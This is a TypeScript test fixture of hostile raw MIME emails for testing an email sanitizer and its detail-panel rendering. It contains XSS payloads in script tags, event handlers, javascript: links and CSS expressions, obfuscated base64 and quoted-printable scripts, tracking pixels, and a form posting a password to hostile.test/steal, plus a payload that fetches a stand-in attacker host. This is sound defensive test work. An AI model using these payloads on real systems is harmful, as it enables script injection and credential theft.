// Hostile inbound messages, as raw MIME: the unit test parses and sanitizes each, the browser
// test opens each in the detail panel. Every script here would set window.__pwned or open a
// dialog if it ran; every remote address is on hostile.test, which must never see a request.

/** The host no request may reach. */
export const HOSTILE_HOST = "hostile.test";

/**
 * What each hostile script does if it runs: marks its document, tells the console's page (a
 * sandboxed frame can still post a message), opens a dialog and calls home.
 */
const MARK = "document.documentElement.setAttribute('data-pwned','1');" +
  "parent.postMessage('pwned','*');alert('pwned');fetch('https://hostile.test/ran')";

/** One hostile message: its subject names the trick. */
export interface HostileEmail {
  subject: string;
  raw: string;
}

function html(n: number, subject: string, body: string): HostileEmail {
  return {
    subject,
    raw: [
      "From: Mallory <mallory@hostile.test>",
      "To: support@topup.test",
      `Subject: ${subject}`,
      "Date: Mon, 3 Mar 2025 10:00:00 +0000",
      `Message-ID: <hostile-${n}@hostile.test>`,
      "MIME-Version: 1.0",
      'Content-Type: text/html; charset="utf-8"',
      "",
      body,
      "",
    ].join("\r\n"),
  };
}

export const HOSTILE_EMAILS: HostileEmail[] = [
  html(
    1,
    "Script tags",
    `<p>Hello</p><script>${MARK}</script><SCRIPT SRC=//hostile.test/x.js></SCRIPT>`,
  ),
  html(
    2,
    "Event handlers",
    `<img src="x" onerror="${MARK}"><body onload="${MARK}"><div onmouseover="${MARK}">hover</div>` +
      `<svg onload="${MARK}"></svg><details open ontoggle="${MARK}">d</details>`,
  ),
  html(
    3,
    "Javascript links",
    `<a href="javascript:${MARK}">click</a><a href="JaVaScRiPt&#58;${MARK}">two</a>` +
      `<a href="jav&#x09;ascript:${MARK}">three</a><a href="data:text/html,<script>${MARK}</script>">four</a>`,
  ),
  html(
    4,
    "CSS expressions",
    `<div style="width:expression(${MARK});background:url(https://hostile.test/bg.png)">css</div>` +
      `<style>@import url(https://hostile.test/x.css); body{background:url(https://hostile.test/b.png)}</style>` +
      `<p style="behavior:url(https://hostile.test/x.htc);-moz-binding:url(https://hostile.test/x.xml)">b</p>` +
      `<link rel="stylesheet" href="https://hostile.test/y.css">`,
  ),
  html(
    5,
    "Remote images",
    `<img src="https://hostile.test/track.gif"><img src="//hostile.test/pixel.png">` +
      `<img srcset="https://hostile.test/a.png 1x"><table background="https://hostile.test/t.png"><tr><td>t</td></tr></table>` +
      `<video poster="https://hostile.test/p.png"></video><audio src="https://hostile.test/a.mp3"></audio>`,
  ),
  html(
    6,
    "Meta refresh",
    `<meta http-equiv="refresh" content="0;url=https://hostile.test/phish"><base href="https://hostile.test/">` +
      `<p>moved</p><a href="relative">relative</a>`,
  ),
  html(
    7,
    "Frames and forms",
    `<iframe src="https://hostile.test/frame"></iframe><object data="https://hostile.test/o.swf"></object>` +
      `<embed src="https://hostile.test/e.swf"><form action="https://hostile.test/steal" method="post">` +
      `<input name="password" value="x"><button formaction="javascript:${MARK}">Go</button></form>`,
  ),
  {
    subject: "Malformed MIME",
    raw: [
      "From: Mallory <mallory@hostile.test>",
      "To: support@topup.test",
      "Subject: Malformed MIME",
      "Message-ID: <hostile-8@hostile.test>",
      "MIME-Version: 1.0",
      'Content-Type: multipart/alternative; boundary="b1"',
      "",
      "--b1",
      "Content-Type: text/html; charset=utf-8",
      "Content-Transfer-Encoding: base64",
      "",
      btoa(`<p>decoded</p><script>${MARK}</script><img src=https://hostile.test/b64.png>`),
      "--b1",
      "Content-Type: text/html; charset=utf-8",
      "Content-Transfer-Encoding: quoted-printable",
      "",
      `<scr=\r\nipt>${MARK}</scr=\r\nipt><img src=3D"https://hostile.test/qp.png" onerror=3D"${MARK}">`,
      // The closing boundary is missing: the message just ends.
    ].join("\r\n"),
  },
];
